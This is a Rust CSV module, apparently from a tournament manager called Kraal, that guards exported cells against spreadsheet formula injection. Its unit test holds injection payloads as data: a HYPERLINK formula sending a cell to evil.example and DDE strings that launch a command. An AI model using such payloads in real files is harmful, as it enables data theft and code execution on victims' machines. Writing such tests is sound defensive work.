//! CSV in and out. Every CSV Kraal writes has a header row and is UTF-8;
//! every CSV it reads is checked whole before anything is stored.

pub mod event;
pub mod games;
pub mod people;
pub mod players;
pub mod seasons;
pub mod standings;
pub mod teams;
pub mod trf;

/// Writes a CSV table: a header row, then one record per row. Every CSV
/// Kraal serves or prints is written here, so every one of them is
/// neutralised the same way against spreadsheet formulas (see [`cell`]).
pub fn table<R, C>(header: &[&str], rows: R) -> Result<Vec<u8>, csv::Error>
where
    R: IntoIterator<Item = Vec<C>>,
    C: AsRef<str>,
{
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(header)?;
    for row in rows {
        w.write_record(row.iter().map(|c| cell(c.as_ref()).into_owned()))?;
    }
    w.into_inner().map_err(|e| e.into_error().into())
}

/// A cell as written: text a spreadsheet would run as a formula (starting
/// with `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading `'`,
/// which spreadsheets show as text. [`uncell`] takes it off again on import,
/// so a text that itself starts with such a quote gets one more.
pub fn cell(text: &str) -> std::borrow::Cow<'_, str> {
    if needs_quote(text) {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

fn needs_quote(text: &str) -> bool {
    match text.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => true,
        Some('\'') => needs_quote(&text[1..]),
        _ => false,
    }
}

/// The text of a cell [`cell`] wrote.
pub fn uncell(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => text,
    }
}

/// A CSV reader as the imports use it: a header row, fields trimmed, a
/// leading byte-order mark (spreadsheets write one) ignored.
pub(crate) fn import_reader(text: &str) -> csv::Reader<&[u8]> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    csv::ReaderBuilder::new()
        .has_headers(true)
        .flexible(false)
        .trim(csv::Trim::All)
        .from_reader(text.as_bytes())
}

/// The columns an import's header names, and where they stand.
pub(crate) type Header = std::collections::HashMap<&'static str, usize>;

/// The header row of an import: the known columns found, with the problems
/// of the rest (an unknown column, other than `ignored` ones, or a column
/// given twice: on line 1, named with its column). An unreadable header row
/// is the one problem, as `Err`.
pub(crate) fn import_header(
    reader: &mut csv::Reader<&[u8]>,
    columns: &[&'static str],
    ignored: &[&str],
) -> Result<(Header, Vec<players::ImportError>), Vec<players::ImportError>> {
    let err = |column: &str, message: String| players::ImportError {
        line: 1,
        column: column.to_string(),
        message,
    };
    let headers = reader
        .headers()
        .map_err(|e| vec![err("", format!("cannot read the header row: {e}"))])?
        .clone();
    let mut errors = Vec::new();
    let mut index = std::collections::HashMap::new();
    for (i, h) in headers.iter().enumerate() {
        let low = h.to_ascii_lowercase();
        if let Some(col) = columns.iter().find(|c| **c == low) {
            if index.insert(*col, i).is_some() {
                errors.push(err(h, format!("column '{h}' appears twice")));
            }
        } else if !ignored.contains(&low.as_str()) {
            errors.push(err(
                h,
                format!("unknown column '{h}' (known: {})", columns.join(", ")),
            ));
        }
    }
    Ok((index, errors))
}

/// The data rows of an import with their line numbers in the file (the
/// header is line 1), blank rows left out; a row the reader cannot take is
/// a problem in `errors`, and the rows after it are still read.
pub(crate) fn import_rows(
    reader: &mut csv::Reader<&[u8]>,
    errors: &mut Vec<players::ImportError>,
) -> Vec<(u64, csv::StringRecord)> {
    let mut rows = Vec::new();
    for record in reader.records() {
        match record {
            Ok(r) if r.iter().all(|f| f.is_empty()) => {}
            Ok(r) => rows.push((r.position().map(|p| p.line()).unwrap_or(0), r)),
            Err(e) => errors.push(unreadable(&e)),
        }
    }
    rows
}

/// A row's cell under the column `col` (empty when the file has no such
/// column), with the formula guard of [`cell`] taken off.
pub(crate) fn field<'r>(header: &Header, record: &'r csv::StringRecord, col: &str) -> &'r str {
    header
        .get(col)
        .and_then(|&i| record.get(i))
        .map(uncell)
        .unwrap_or("")
}

/// A line the reader could not take, as an import problem on that line.
pub(crate) fn unreadable(e: &csv::Error) -> players::ImportError {
    let line = e.position().map(|p| p.line()).unwrap_or(0);
    let message = match e.kind() {
        csv::ErrorKind::UnequalLengths {
            expected_len, len, ..
        } => format!("{len} fields where the header has {expected_len}"),
        csv::ErrorKind::Utf8 { .. } => "the text is not valid UTF-8".to_string(),
        _ => e.to_string(),
    };
    players::ImportError {
        line,
        column: String::new(),
        message,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_written_as_text_and_read_back_unchanged() {
        for name in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)",
            "\tTab",
            "\rReturn",
        ] {
            let written = cell(name);
            assert!(written.starts_with('\''), "{written}");
            assert_eq!(uncell(&written), name);
        }
        for odd in ["'=already quoted", "''+twice"] {
            assert_eq!(uncell(&cell(odd)), odd);
        }
        for plain in ["Thabo Mokoena", "'quoted", "O'Neill", "½", "4.5", ""] {
            assert_eq!(cell(plain), plain);
            assert_eq!(uncell(plain), plain);
        }
    }
}
